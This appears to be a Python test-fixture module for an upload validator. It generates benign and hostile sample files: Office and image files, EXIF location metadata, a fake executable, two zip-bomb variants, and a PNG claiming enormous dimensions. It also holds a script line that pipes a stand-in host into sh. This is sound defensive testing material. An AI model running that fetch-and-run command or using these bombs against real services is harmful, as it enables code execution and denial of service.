"""Files of every kind, honest and hostile, made on the spot."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import docx
import openpyxl
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, PngImagePlugin

PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n"
SCRIPT = b"#!/bin/sh\ncurl https://bad.example/ | sh\n"
CSV = "Name,Größe\r\nSunflower room,12\r\n".encode()
EXE = b"MZ\x90\x00" + b"\x00" * 200
OLD_WORD = bytes.fromhex("D0CF11E0A1B11AE1") + b"\x00" * 600
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 100
GPS_EXIF = 0x8825
MAIN = "application/vnd.openxmlformats-officedocument.%s.main+xml"


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    """As it arrives in a form; what the browser says it is, is never asked."""
    return SimpleUploadedFile(name, content, content_type="image/jpeg")


def packed(parts: dict[str, bytes | str], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return out.getvalue()


def word(text: str = "Our graduated approach") -> bytes:
    out, document = io.BytesIO(), docx.Document()
    document.add_paragraph(text)
    document.save(out)
    return out.getvalue()


def excel() -> bytes:
    out, book = io.BytesIO(), openpyxl.Workbook()
    book.active.append(["Room", 12])
    book.save(out)
    return out.getvalue()


def office(main: str, more: dict[str, bytes] | None = None, types: str = "") -> bytes:
    """The least that makes an Office file."""
    content_types = f'<Types><Override PartName="/main.xml" ContentType="{MAIN % main}"/>{types}</Types>'
    return packed({"[Content_Types].xml": content_types, "main.xml": "<x/>"} | (more or {}))


def open_document(kind: str, more: dict[str, bytes] | None = None) -> bytes:
    return packed({"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": "<x/>"} | (more or {}))


def zip_bomb() -> bytes:
    """Named .docx, and one hundred megabytes of nothing."""
    return office("wordprocessingml.document", {"word/media/image1.bmp": b"\0" * 100 * 2**20})


def overlapping_bomb() -> bytes:
    """Many parts that share the same packed bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("0", bytes(range(256)) * 40)
        first = file.infolist()[0]
        for number in range(1, 50):
            again = zipfile.ZipInfo(str(number))
            for field in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
                setattr(again, field, getattr(first, field))
            file.filelist.append(again)
            file.NameToInfo[again.filename] = again
    return out.getvalue()


def many_parts() -> bytes:
    return packed({f"part{number}": b"" for number in range(6_000)}, method=zipfile.ZIP_STORED)


def photo(
    format: str = "JPEG", size: tuple[int, int] = (60, 40), colour: object = (200, 120, 40), **options: object
) -> bytes:
    out = io.BytesIO()
    mode = {1: "L", 4: "RGBA"}.get(len(colour) if isinstance(colour, tuple) else 1, "RGB")
    Image.new(mode, size, colour).save(out, format, **options)  # type: ignore[arg-type]
    return out.getvalue()


def located_photo() -> bytes:
    """A photograph on its side that says where it was taken, by whom, and hides a small copy of a note."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turn by 90 degrees
    exif[0x010F] = "Camera of Amara"
    exif.get_ifd(GPS_EXIF)[1] = "N"
    exif.get_ifd(GPS_EXIF)[2] = (51.0, 30.0, 0.0)
    return photo(
        exif=exif, comment=b"the comment", xmp=b"<x:xmpmeta>the packet</x:xmpmeta>", icc_profile=b"the profile"
    )


def annotated_png() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Author", "Camera of Amara")
    return photo("PNG", pnginfo=notes)


def animation(format: str) -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue")]
    frames[0].save(out, format, save_all=True, append_images=frames[1:])
    return out.getvalue()


def huge_png(width: int, height: int) -> bytes:
    """A few bytes that say they are a picture of `width` × `height`."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack("!L", len(content)) + name + content + struct.pack("!L", zlib.crc32(name + content))

    header = struct.pack("!LLBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    )
